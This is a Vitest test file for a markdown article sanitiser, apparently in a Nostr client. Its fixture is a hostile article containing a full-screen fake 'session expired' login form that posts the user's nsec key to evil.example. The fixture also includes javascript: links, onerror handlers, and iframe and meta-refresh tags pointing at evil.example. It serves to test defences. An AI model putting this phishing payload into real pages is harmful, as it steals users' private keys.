// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '@/components/article/render-markdown.ts';

/** The article of issue 12: a full-screen fixed "session expired" overlay asking for the nsec. */
const OVERLAY = `# A perfectly normal article

Some text first.

<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff" class="dialog-overlay" id="root">
  <h1>SESSION EXPIRED</h1>
  <p>Paste your nsec to continue.</p>
  <form action="https://evil.example/steal" method="post">
    <label>nsec <input type="password" name="nsec" autocomplete="current-password"></label>
    <input type="text" name="other"><textarea name="t"></textarea>
    <select name="s"><option>a</option></select>
    <button type="submit">Log in</button>
  </form>
</div>

<input type="password" placeholder="outside any form">
<button onclick="alert(1)">click</button>
<dialog open>a dialog</dialog>
<div popover="manual" data-x="1" aria-label="fake">a popover</div>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x"></object><embed src="https://evil.example/y">
<style>.note { position: fixed }</style>
<link rel="stylesheet" href="https://evil.example/s.css">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">
<svg><foreignObject><input type="password"></foreignObject></svg>
<math><mi>x</mi></math>
<img src="https://example.com/pic.png" onerror="alert(1)" style="position:absolute" width="5000">
<a href="javascript:alert(1)">bad link</a>
<span style="position:sticky;top:0">sticky</span>
`;

const GOOD = `## Heading

A [link](https://example.com/page "Title") and ![a picture](https://example.com/p.png).

- one
- two

1. first

\`\`\`js
const x = 1;
\`\`\`

| left | centre |
|:-----|:------:|
| a    | b      |

> a quote with **bold**, *em*, ~~gone~~ and \`code\`.
`;

function dom(html: string): HTMLElement {
  const root = document.createElement('div');
  root.innerHTML = html;
  return root;
}

describe('article sanitiser', () => {
  it('renders neither the fixed overlay nor any field of the fake login', () => {
    const root = dom(renderMarkdown(OVERLAY));
    document.body.append(root);
    for (const tag of [
      'form',
      'input',
      'button',
      'textarea',
      'select',
      'option',
      'label',
      'iframe',
      'object',
      'embed',
      'dialog',
      'style',
      'link',
      'meta',
      'base',
      'svg',
      'math',
      'script',
    ])
      expect(root.querySelectorAll(tag), tag).toHaveLength(0);
    for (const attr of ['style', 'class', 'id', 'popover', 'onclick', 'onerror', 'width', 'action'])
      expect(root.querySelectorAll(`[${attr}]`), attr).toHaveLength(0);
    expect(root.querySelectorAll('[data-x], [aria-label]')).toHaveLength(0);
    for (const el of root.querySelectorAll('*')) {
      expect(getComputedStyle(el).position, el.tagName).toBe('static');
    }
    expect(root.querySelector('a')?.getAttribute('href') ?? null).toBeNull();
    // The words stay (as plain text in the flow of the article), the trap does not.
    expect(root.textContent).toContain('SESSION EXPIRED');
    expect(root.querySelector('img')?.getAttribute('src')).toBe('https://example.com/pic.png');
    root.remove();
  });

  it('keeps what articles are made of', () => {
    const root = dom(renderMarkdown(GOOD));
    expect(root.querySelector('h2')?.textContent).toBe('Heading');
    const a = root.querySelector('a')!;
    expect(a.getAttribute('href')).toBe('https://example.com/page');
    expect(a.getAttribute('title')).toBe('Title');
    const img = root.querySelector('img')!;
    expect(img.getAttribute('src')).toBe('https://example.com/p.png');
    expect(img.getAttribute('alt')).toBe('a picture');
    expect(root.querySelectorAll('ul li')).toHaveLength(2);
    expect(root.querySelector('pre code')?.textContent).toContain('const x = 1;');
    expect(root.querySelector('th[align="center"]')?.textContent).toBe('centre');
    expect(root.querySelector('blockquote strong')?.textContent).toBe('bold');
    expect(root.querySelector('del')?.textContent).toBe('gone');
  });

  it('keeps footnotes working, with prefixed ids and only their own class names', () => {
    const root = dom(
      renderMarkdown(
        'Text with a note.[^1]\n\n[^1]: Kept in a paper notebook.\n\n<p id="app" class="x">p</p>',
      ),
    );
    const ref = root.querySelector('sup a[href^="#"]')!;
    const target = ref.getAttribute('href')!.slice(1);
    expect(target).toMatch(/^user-content-footnote-/);
    expect(root.querySelector(`[id="${target}"]`)?.textContent).toContain(
      'Kept in a paper notebook',
    );
    expect(root.querySelector('.footnotes')).not.toBeNull();
    expect(root.querySelector('#app, #user-content-app, .x')).toBeNull();
  });
});
